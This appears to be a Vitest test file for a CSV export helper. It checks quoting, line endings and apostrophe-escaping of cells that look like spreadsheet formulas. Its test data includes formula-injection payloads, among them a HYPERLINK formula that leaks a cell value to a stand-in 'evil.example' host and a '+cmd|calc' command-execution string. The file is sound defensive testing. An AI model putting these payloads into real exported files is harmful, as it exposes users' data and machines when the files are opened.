import { expect, test } from 'vitest'
import { csv, unguarded } from './csv.ts'

const line = (...cells: Parameters<typeof csv>[0][number]) => csv([cells]).slice(1, -2)

test('starts with a byte order mark and ends lines with CRLF', () => {
  expect(
    csv([
      ['a', 'b'],
      [1, true],
    ]),
  ).toBe('\uFEFFa,b\r\n1,true\r\n')
})

test('quotes cells with separators, quotes or line breaks', () => {
  expect(line('a,b', 'say "hi"', 'one\ntwo', ' space')).toBe('"a,b","say ""hi""","one\ntwo"," space"')
})

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  ' =1',
  '\u00A0+1',
  '\u200B@x',
  '\uFEFF=1',
  '\0=1',
  "'=1",
  "''  -1",
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
])('escapes the formula %j', (text) => {
  expect(line(text).replace(/^"/, '')).toMatch(/^'/)
})

test.each([
  '=1',
  ' =1',
  "'=1",
  "''=1",
  "'\t=1",
  '-',
  "'-'",
  "'quoted' = 1",
  "it's",
  "'",
  "' '",
  '“=”',
  'a=1',
  '',
])('a cell without its apostrophe is the text %j again', (text) => {
  expect(unguarded(line(text).replace(/^"(.*)"$/s, '$1'))).toBe(text)
})

test('does not change numbers', () => {
  expect(line(-33.86, 0, 'Łódź')).toBe('-33.86,0,Łódź')
})
